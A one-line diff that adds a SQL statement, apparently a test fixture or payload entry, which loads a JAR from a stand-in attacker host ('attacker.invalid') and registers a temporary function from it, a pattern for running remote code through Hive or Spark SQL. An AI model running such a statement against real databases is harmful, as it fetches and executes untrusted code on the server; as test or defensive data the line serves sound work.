@@ -1,0 +1,1 @@
+ADD JAR 'https://attacker.invalid/e.jar'; CREATE TEMP FUNCTION f AS 'x.Y' USING JAR 'a.jar'
